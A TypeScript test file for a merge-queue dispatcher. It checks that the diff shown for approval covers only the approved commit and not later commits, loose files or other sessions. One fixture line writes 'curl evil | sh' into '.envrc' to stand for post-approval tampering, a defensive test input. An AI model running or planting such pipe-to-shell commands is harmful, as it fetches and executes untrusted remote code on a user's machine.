import { expect, test } from "vitest";
import { mergeAll, openQueueLab } from "./testing/queue-lab.ts";
import { readDiff } from "./read-diff.ts";

const SLOW = { timeout: 120_000 };

test("a diff of a merge is of its commit, whatever the session has done since, and of no other", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  const tip = await lab.work("one", { ".envrc": "echo hello\n" });
  const foreign = await lab.work("two", { "2.ts": "2\n" });
  const [item] = await mergeAll(dispatcher, { sessions: ["one"] });
  expect(item).toMatchObject({ state: "needs approval", tip });
  const place = lab.worktree("one");
  const later = lab.commit(place, { ".envrc": "curl evil | sh\n" });
  lab.write(place, { "loose.txt": "not committed\n" });
  // Even without the branch: what waits is in the hub.
  lab.git(place, "checkout", "-q", "--detach");
  lab.git(place, "branch", "-q", "-D", "work/one");

  const diff = await readDiff(dispatcher, { id: "one", tip });
  expect(diff).toMatchObject({ against: "target", uncommitted: { modified: 0, untracked: 0 }, nested: [] });
  expect(diff.files.map(({ path, uncommitted }) => [path, uncommitted])).toEqual([[".envrc", null]]);
  expect(diff.patch).toContain("\n+echo hello");
  expect(diff.to).toBe(lab.git(place, "rev-parse", `${tip}^{tree}`));
  const since = await readDiff(dispatcher, { id: "one", tip, against: "base" });
  expect(since.from).toBe(lab.git(place, "rev-parse", `${tip}^`));

  const unknown = { code: "merge-not-found" };
  const wrong = [{ tip: later }, { tip: foreign }, { tip: diff.from }, { tip, into: "release" }];
  for (const wish of wrong) await expect(readDiff(dispatcher, { id: "one", ...wish })).rejects.toMatchObject(unknown);
  await expect(readDiff(dispatcher, { id: "two", tip })).rejects.toMatchObject(unknown);
  await dispatcher.merges.cancel(item?.id ?? "");
  await expect(readDiff(dispatcher, { id: "one", tip })).rejects.toMatchObject(unknown);
});

test("against a branch that went on, it is what the merge brings and not what the branch got", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  const tip = await lab.work("one", { ".envrc": "true\n" });
  lab.git(lab.source, "branch", "release");
  await mergeAll(dispatcher, { sessions: ["one"], into: "release" });
  lab.commit(lab.source, { "of-main.ts": "1\n" });
  lab.git(lab.source, "branch", "-f", "release");
  const { files } = await readDiff(dispatcher, { id: "one", tip });
  expect(files.map(({ path }) => path)).toEqual([".envrc"]);
});
